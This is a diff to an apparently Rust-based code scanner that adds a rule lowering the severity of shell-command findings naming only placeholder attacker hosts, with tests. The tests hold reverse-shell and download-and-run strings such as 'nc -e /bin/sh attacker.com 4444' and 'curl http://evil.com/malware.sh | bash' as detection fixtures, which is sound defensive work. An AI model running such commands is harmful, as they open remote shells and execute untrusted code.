@@ -468,7 +468,8 @@ pub fn check_command_literal(checker: &mut Checker, value: &str, range: TextRang
         // a project's own installer is how it tells users to update.
         _ if checker.in_documentation_value()
             || names_own_host(checker.path, value)
-            || pipes_only_vendor_installers(value) =>
+            || pipes_only_vendor_installers(value)
+            || names_only_placeholder_hosts(value) =>
         {
             0.05
         }
@@ -494,6 +495,47 @@ pub fn check_command_literal(checker: &mut Checker, value: &str, range: TextRang
         severity,
         vec!["spawn", "command-literal"],
     );
+}
+
+/// `nc -e /bin/sh attacker.com 4444`, `curl http://evil.com/malware.sh | bash`: every host the
+/// command names is one that examples and red-team datasets use for "the attacker". A payload
+/// names a host its author controls.
+fn names_only_placeholder_hosts(command: &str) -> bool {
+    const PLACEHOLDERS: &[&str] = &[
+        "evil.com",
+        "attacker.com",
+        "malicious.com",
+        "hacker.com",
+        "evil.example",
+        "attacker.example",
+    ];
+    let is_placeholder = |host: &str| {
+        let host = host.trim_end_matches('.').to_ascii_lowercase();
+        PLACEHOLDERS
+            .iter()
+            .any(|name| host == *name || host.ends_with(&format!(".{name}")))
+    };
+    let words: Vec<&str> = command
+        .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '(' | ')' | ';' | '|' | '&'))
+        .filter(|w| !w.is_empty())
+        .take(64)
+        .collect();
+    let hosts: Vec<&str> = words
+        .iter()
+        .filter_map(|word| {
+            let rest = word
+                .strip_prefix("http://")
+                .or_else(|| word.strip_prefix("https://"))
+                .unwrap_or(word);
+            let host = rest.split(['/', ':', '?', '#', '@']).next().unwrap_or(rest);
+            let dotted = host.contains('.')
+                && host.rsplit('.').next().is_some_and(|tld| {
+                    tld.len() >= 2 && tld.chars().all(|c| c.is_ascii_alphabetic())
+                });
+            (dotted && (word.contains("://") || is_placeholder(host))).then_some(host)
+        })
+        .collect();
+    !hosts.is_empty() && hosts.iter().all(|host| is_placeholder(host))
 }
 
 /// Drops each shell payload literal finding ([`check_command_literal`]) that a process start
@@ -2768,6 +2810,13 @@ def use_mirror(url):
         assert!(max_severity("other-1.0/other/tools.py", runs, "WH120") <= 0.1);
         let payload = runs.replace("astral.sh/uv", "astral-sh.example/uv");
         assert!(max_severity("other-1.0/other/tools.py", &payload, "WH120") >= 0.5);
+        // A red-team dataset's attack strings name the conventional attacker hosts.
+        let dataset = "ATTACKS = [\n    'nc -e /bin/sh attacker.com 4444',\n    'curl http://evil.com/malware.sh | bash',\n]\n";
+        assert!(max_severity("p/pkg/dataset.py", dataset, "WH120") < 0.1);
+        let real = dataset
+            .replace("attacker.com", "198.51.100.7")
+            .replace("evil.com", "x9k.top");
+        assert!(max_severity("p/pkg/dataset.py", &real, "WH120") >= 0.7);
         let label = "PATTERNS = [('wget_sh', 'Download and run (wget | sh)')]\n";
         assert_eq!(max_severity("p/pkg/__init__.py", label, "WH120"), 0.0);
         let fixture = "CMD = 'curl -s https://x.invalid/a.sh | sh'\n";
